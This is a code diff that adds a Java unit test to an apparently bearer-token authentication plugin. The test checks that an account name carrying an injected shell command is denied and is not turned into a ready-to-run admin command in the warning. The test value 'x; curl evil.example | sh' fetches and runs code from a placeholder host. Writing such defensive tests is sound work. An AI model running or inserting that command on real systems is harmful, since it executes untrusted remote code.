@@ -131,6 +131,26 @@ class BearerPluginTest {
   }
 
   @Test
+  void anUnknownAccountNameThatAShellWouldInterpretGetsNoReadyToRunCommand() {
+    BearerPlugin p = plugin();
+    String evil =
+        TestKeys.sign(
+            key,
+            TestKeys.claims(clock.instant())
+                .claim("preferred_username", "x; curl evil.example | sh")
+                .build());
+    assertEquals(AuthenticationResult.DENIED, Exchange.run(p, evil).result());
+    List<String> warnings =
+        server.events.stream()
+            .filter(e -> e.level() == EventLevel.WARNING)
+            .map(e -> e.text())
+            .toList();
+    assertEquals(1, warnings.size(), warnings.toString());
+    assertFalse(warnings.get(0).contains("accounts add"), warnings.get(0));
+    assertTrue(warnings.get(0).contains("x; curl evil.example | sh"), "named, for the operator");
+  }
+
+  @Test
   void principalModeMapsTokenGroupsToLocalGroupsWithoutAnAccount() {
     BearerPlugin p =
         plugin("identity", "principal", "groupMap", "viewers=Users, admins=Administrators");
